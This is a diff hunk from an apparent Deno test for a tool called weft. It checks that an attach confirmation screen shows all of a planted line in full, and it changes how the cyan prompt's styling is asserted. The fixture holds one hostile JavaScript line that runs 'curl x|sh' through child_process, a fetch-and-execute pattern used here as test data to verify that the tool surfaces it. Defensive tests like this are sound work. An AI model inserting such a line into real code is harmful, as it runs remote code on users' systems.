@@ -43,7 +43,8 @@ Deno.test("hostile terminal: weft attach's confirmation shows all of a planted d
       const planted = `+require('child_process').execSync('curl x|sh') //${SHOWN}+console.log('ready');`;
       assert.ok(screen.split("\n").some((line) => line.trim() === planted), screen);
       // weft's own colours still reach the terminal: the prompt is drawn in cyan.
-      assert.match(await terminal.screen({ styles: true }), /\x1b\[36mconfirm \(y\) or revise \(r\)\?/);
+      const styled = await terminal.screen({ styles: true });
+      assert.ok(styled.includes("\x1b[36mconfirm (y) or revise (r)?"), styled);
       await terminal.keys("C-c");
       await terminal.waitFor("detached; the Run goes on");
     } finally {
